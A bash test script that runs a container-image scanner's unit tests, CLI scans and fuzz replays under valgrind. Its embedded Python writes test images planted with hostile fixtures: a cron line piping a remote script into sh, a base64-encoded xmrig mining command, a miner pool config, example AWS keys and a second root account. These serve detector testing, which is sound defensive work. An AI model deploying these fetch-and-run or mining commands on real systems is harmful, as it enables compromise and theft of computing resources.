#!/bin/bash
# valgrind.sh - the core tests under valgrind (issue 7): a plain debug build (gcc, no
# sanitizer, no FORTIFY) in build-valgrind/, then, each under
#   valgrind --error-exitcode=89 --leak-check=full --errors-for-leak-kinds=definite
# the C unit tests of layer, source, report and cache, end-to-end CLI scans of images
# written by tests/helpers/imgwriter.py (every transport, gzip/zstd/plain layers, a
# secret, a miner, whiteouts), and every fuzz corpus replay (fuzz/corpus, fuzz/regressions).
# -Dwerror=false: at -O0 gcc warns where -O2 does not (format-truncation); warnings are
# the ordinary build's business, this one only has to run.
# Zero errors are allowed; the only suppressions are for third-party assembly, each
# justified in tests/hardening/valgrind.supp.
#
# Exit code 89 is valgrind's own "errors found" (never one of laocoon's 0-6, like the
# sanitizers' 86-88 in the Makefile): a scan that exits 1 (findings) is a pass here.
# Prints TAP, one line per program, and "1..N" at the end (also kept in
# $bdir/valgrind.tap); exits 1 when any failed.
#   scripts/valgrind.sh            (VALGRIND_BUILD=dir to build elsewhere)
#   scripts/valgrind.sh --quick    (unit tests and CLI scans only, no corpus replays)
#   scripts/valgrind.sh --replays  (the corpus replays only)
set -uo pipefail
cd "$(dirname "$0")/.."
src=$(pwd)
bdir=${VALGRIND_BUILD:-build-valgrind}
case $bdir in /*) ;; *) bdir="$src/$bdir" ;; esac
quick=0
replays_only=0
[ "${1:-}" = "--quick" ] && quick=1
[ "${1:-}" = "--replays" ] && replays_only=1

if ! command -v valgrind >/dev/null; then
	echo "1..0 # SKIP valgrind is not installed"
	exit 0
fi
if [ ! -f "$bdir/build.ninja" ]; then
	CC=gcc meson setup "$bdir" -Dbuildtype=debug -Dhardening=false -Db_sanitize=none -Dwerror=false \
		</dev/null >"${TMPDIR:-/tmp}/laocoon-valgrind-setup.log" 2>&1 ||
		{ echo "not ok 1 - meson setup $bdir"; echo "1..1"; exit 1; }
fi
if ! ninja -C "$bdir" </dev/null >"${TMPDIR:-/tmp}/laocoon-valgrind-build.log" 2>&1; then
	echo "not ok 1 - build $bdir (see ${TMPDIR:-/tmp}/laocoon-valgrind-build.log)"
	echo "1..1"
	exit 1
fi

# The TAP also goes to $bdir/valgrind.tap, for a CI counter that reads files.
exec > >(tee "$bdir/valgrind.tap")
work=$(mktemp -d "${TMPDIR:-/tmp}/laocoon-vg.XXXXXX")
trap 'rm -rf "$work"' EXIT
# Tests and scans must not touch the user's caches: everything goes under $work.
export XDG_CACHE_HOME="$work/xdg-cache" HOME="$work/home"
mkdir -p "$XDG_CACHE_HOME" "$HOME"
export LAOCOON="$bdir/laocoon" LAOCOON_SRC="$src" PYTHONPATH="$src/tests/helpers"
export PYTHONDONTWRITEBYTECODE=1

vg=(valgrind -q --error-exitcode=89 --leak-check=full --errors-for-leak-kinds=definite
    --show-leak-kinds=definite --track-origins=yes --num-callers=30
    --suppressions="$src/tests/hardening/valgrind.supp")
n=0
failed=0

# run NAME OK_CODES CMD...: a pass when valgrind reports nothing, the program's exit code
# is one of OK_CODES (comma list) and no signal killed it. Runs in $work (tests that
# write files write them there).
run() {
	local name=$1 okc=$2 log rc
	shift 2
	n=$((n + 1))
	log="$work/vg-$n.log"
	(cd "$work" && exec "${vg[@]}" --log-file="$log.vg" "$@" >"$log" 2>&1 </dev/null)
	rc=$?
	if [ -s "$log.vg" ] || [ $rc -eq 89 ] || [ $rc -gt 128 ] ||
		[[ ",$okc," != *",$rc,"* ]]; then
		echo "not ok $n - valgrind $name (exit $rc)"
		sed -e 's/^/#   /' "$log.vg" 2>/dev/null | head -80
		grep -E '^not ok' "$log" | head -10 | sed -e 's/^/#   /'
		failed=$((failed + 1))
	else
		echo "ok $n - valgrind $name"
	fi
}

skip() {
	n=$((n + 1))
	echo "ok $n - valgrind $1 # SKIP $2"
}

if [ $replays_only -eq 0 ]; then
# 1. C unit tests (TAP programs: exit 0 only). cache_speed (timing) and cache_concurrent
#    (minutes under valgrind's one-thread-at-a-time scheduler) stay with the ordinary
#    and ASan suites.
for t in layer/test_layer_path layer/test_layer_fileidx layer/test_layer_walk \
	source/test_source_unit report/test_report_unit \
	cache/test_cache_roundtrip cache/test_cache_lru cache/test_cache_corrupt \
	cache/test_cache_blob cache/test_cache_codec cache/test_cache_layer; do
	exe="$bdir/tests/$t"
	if [ -x "$exe" ]; then run "${t##*/}" 0 "$exe"; else skip "${t##*/}" "not built"; fi
done

# 2. End-to-end scans of small images, every transport. Exit 0 (clean) or 1 (findings)
#    are both fine; what is tested is valgrind's verdict on the whole CLI path: open,
#    decompress, walk, every detector, cache store and hit, report writers.
if /usr/bin/python3 - "$work/img" >"$work/img.log" 2>&1 <<'PY'
import base64, os, sys
import imgwriter as w
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
xmr = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
L0 = w.Layer('gzip')
L0.dir('etc').file('etc/passwd', b'root:x:0:0:root:/root:/bin/sh\nu:x:0:0::/:/bin/sh\n')
L0.file('etc/shadow', b'root:$6$salt$hash:19000:0:99999:7:::\n', mode=0o644)
L0.file('usr/bin/su', b'\x7fELF' + b'\0' * 60, mode=0o4755).symlink('bin', 'usr/bin')
L0.file('app/.env', b'AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n'
        b'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n')
L0.file('tmp/x', b'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')
L1 = w.Layer('zstd')
L1.whiteout('etc/shadow').opaque('var/cache').file('var/cache/b', b'b')
L1.file('opt/m/config.json', ('{"donate-level": 1, "pools": [{"url": '
        '"stratum+tcp://pool.supportxmr.com:3333", "user": "%s", "pass": "x"}]}' % xmr).encode())
L1.file('etc/cron.d/x', b'*/5 * * * * root curl -fsSL http://1.2.3.4/a.sh | sh\n')
L1.chardev('dev/null', 1, 3).fifo('run/f').file(b'bad\xffname\x1b[2J', b'')
L2 = w.Layer('none')
L2.file('usr/share/doc/readme', b'hello\n' * 1000)
cfg = dict(Entrypoint=['/bin/sh', '-c'], Cmd=['echo %s | base64 -d | sh' % base64.b64encode(
           b'./xmrig -o stratum+tcp://pool.supportxmr.com:3333').decode()],
           Env=['A=b', 'DB_PASSWORD=hunter2hunter2'], User='root', ExposedPorts={'3333/tcp': {}})
img = w.Image([L0, L1, L2], config=cfg)
img.write_oci(os.path.join(out, 'oci'))
img.write_oci_archive(os.path.join(out, 'oci.tar'))
img.write_docker_archive(os.path.join(out, 'docker.tar'), repo_tags=['demo:1'])
img.write_dir(os.path.join(out, 'dir'))
root = os.path.join(out, 'rootfs', 'etc')
os.makedirs(root)
open(os.path.join(root, 'passwd'), 'w').write('root:x:0:0::/root:/bin/sh\n')
PY
then
	lc="$bdir/laocoon"
	img="$work/img"
	# The first scan compiles the matcher database (slow under valgrind) and stores it
	# with the layers in $seed; every later scan gets a fresh cache directory holding
	# only that database, so it walks every layer again without recompiling.
	seed="$work/cache-seed"
	fresh() {
		local d="$work/cache-$((n + 1))"
		mkdir -p "$d"
		cp "$seed"/matcher-*.hsdb "$d"/ 2>/dev/null
		echo "$d"
	}
	run "scan oci (json; matcher compiled, layers stored)" 0,1 \
		"$lc" scan --cache-dir "$seed" --format json "oci:$img/oci"
	run "scan oci again (layer cache hit)" 0,1 "$lc" scan --cache-dir "$seed" "oci:$img/oci"
	run "scan oci-archive (table)" 0,1 "$lc" scan --cache-dir "$(fresh)" "oci-archive:$img/oci.tar"
	run "scan docker-archive (json)" 0,1 "$lc" scan --cache-dir "$(fresh)" --format json \
		"docker-archive:$img/docker.tar"
	run "scan dir" 0,1 "$lc" scan --cache-dir "$(fresh)" "dir:$img/dir"
	run "scan rootfs" 0,1 "$lc" scan --cache-dir "$(fresh)" "rootfs:$img/rootfs"
	run "inspect --files" 0,1 "$lc" inspect --no-cache --files "oci:$img/oci"
	run "scan, one thread, --timeout" 0,1,6 "$lc" scan --cache-dir "$(fresh)" \
		--parallel 1 --timeout 10m "oci:$img/oci"
	run "scan a missing image" 2,3 "$lc" scan --no-cache "oci:$img/nonexistent"
	run "name" 0,1 "$lc" name docker.io/library/ubunto:22.04
else
	n=$((n + 1))
	echo "not ok $n - write the test images"
	sed -e 's/^/#   /' "$work/img.log" | tail -20
	failed=$((failed + 1))
fi

fi # replays_only

# 3. Every fuzz corpus and every kept crash, replayed once (the replay_* programs).
if [ $quick -eq 0 ]; then
	for f in fuzz/fuzz_*.c; do
		h=${f#fuzz/fuzz_}
		h=${h%.c}
		exe="$bdir/fuzz/replay_$h"
		if [ -x "$exe" ]; then
			run "fuzz replay $h" 0 "$exe" "$src/fuzz/corpus/$h" "$src/fuzz/regressions/$h"
		else
			skip "fuzz replay $h" "not built"
		fi
	done
fi

echo "1..$n"
[ $failed -eq 0 ] && echo "# valgrind: all $n programs clean" || echo "# valgrind: $failed of $n failed"
[ $failed -eq 0 ]
